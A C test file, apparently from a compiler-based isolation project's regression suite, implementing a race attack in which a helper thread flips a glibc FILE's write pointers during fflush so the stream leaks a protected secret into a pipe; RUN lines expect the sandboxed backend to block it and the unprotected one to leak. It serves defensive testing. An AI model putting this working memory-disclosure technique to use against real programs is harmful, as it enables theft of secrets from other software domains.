// A stream's state races its check: `evil` gives its pipe stream a buffer
// of its own and a byte to flush, then a second thread of evil flips one
// of the stream's write pointers so that the span to flush runs from the
// buffer over vault's secret (or from the secret to the buffer) while
// evil calls fflush. A check of the FILE that sees the good value,
// followed by libc's flush that reads the bad one, writes the secret into
// the pipe (with the loader of before streams lived in runtime memory:
// stolen within a few tries). Under `sfi` the FILE evil holds is a
// decoy (loader/sfi_streams.c): libc's stream is in memory no domain
// writes, and the flips change nothing libc reads. Control: the same
// binary under `none` (no checks, no decoys) leaks the secret.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t.sfi -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t.sfi flush 1000 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t.sfi flush 1000 2>&1 | FileCheck %s --check-prefix=STOLEN
// SFI: flush: 1000 tries, 0 stolen, 0 refused
// STOLEN: flush: {{[0-9]+}} tries, 1 stolen
// STOLEN: loot: 'vault-secret-42'

#include "Inputs/vault.h"

#include "Inputs/flipper.h"

#include <fcntl.h>
#include <unistd.h>

static int pipe_fds[2] = {-1, -1};
static FILE *stream;
static char buffer[4096]; /* the default domain's: evil may write it */
#define PIPE_BYTES (1 << 20)

/* 1 when what the pipe holds contains the secret (copied to loot). */
static long drain(char *loot) {
  static char got[PIPE_BYTES];
  long found = 0;
  ssize_t n;
  while ((n = read(pipe_fds[0], got, sizeof got)) > 0)
    if (!found && memmem(got, (size_t)n, intact, sizeof intact))
      found = 1;
  if (found)
    memcpy(loot, intact, sizeof intact);
  return found;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux, (void)key;
  if (strcmp(mode, "flush") != 0)
    return -1;
  if (!stream) {
    if (pipe2(pipe_fds, O_NONBLOCK) ||
        fcntl(pipe_fds[0], F_SETPIPE_SZ, PIPE_BYTES) < 0 ||
        !(stream = fdopen(pipe_fds[1], "w")) ||
        setvbuf(stream, buffer, _IOFBF, sizeof buffer) || start_flipper())
      return -1;
  }
  FILE *f = stream;
  __asm__ volatile("" : "+r"(f) : : "memory"); /* fdopen's result is noalias */
  fputc('x', f); /* one byte pending in buffer */
  f->_flags |= 0x1000; /* _IO_IS_APPENDING: flush with no seek first */
  /* The span [base, ptr) made to cover the secret by one word. */
  char **word = (uintptr_t)buffer < (uintptr_t)secret ? &f->_IO_write_ptr
                                                      : &f->_IO_write_base;
  char *good = *word;
  char *bad = word == &f->_IO_write_ptr ? (char *)secret + sizeof intact
                                        : (char *)secret;
  /* The flipper holds its second value (good: checks pass) and puts the
   * first (bad) in for an instant, which libc's flush may read. */
  arm_word(word, (uintptr_t)bad, (uintptr_t)good);
  for (int i = 0; i < 16; i++) {
    fputc('x', f);
    fflush(f);
  }
  disarm();
  *word = good;
  fflush(f);
  return drain(loot);
}

int main(int argc, char **argv) { return race_main(argc, argv); }
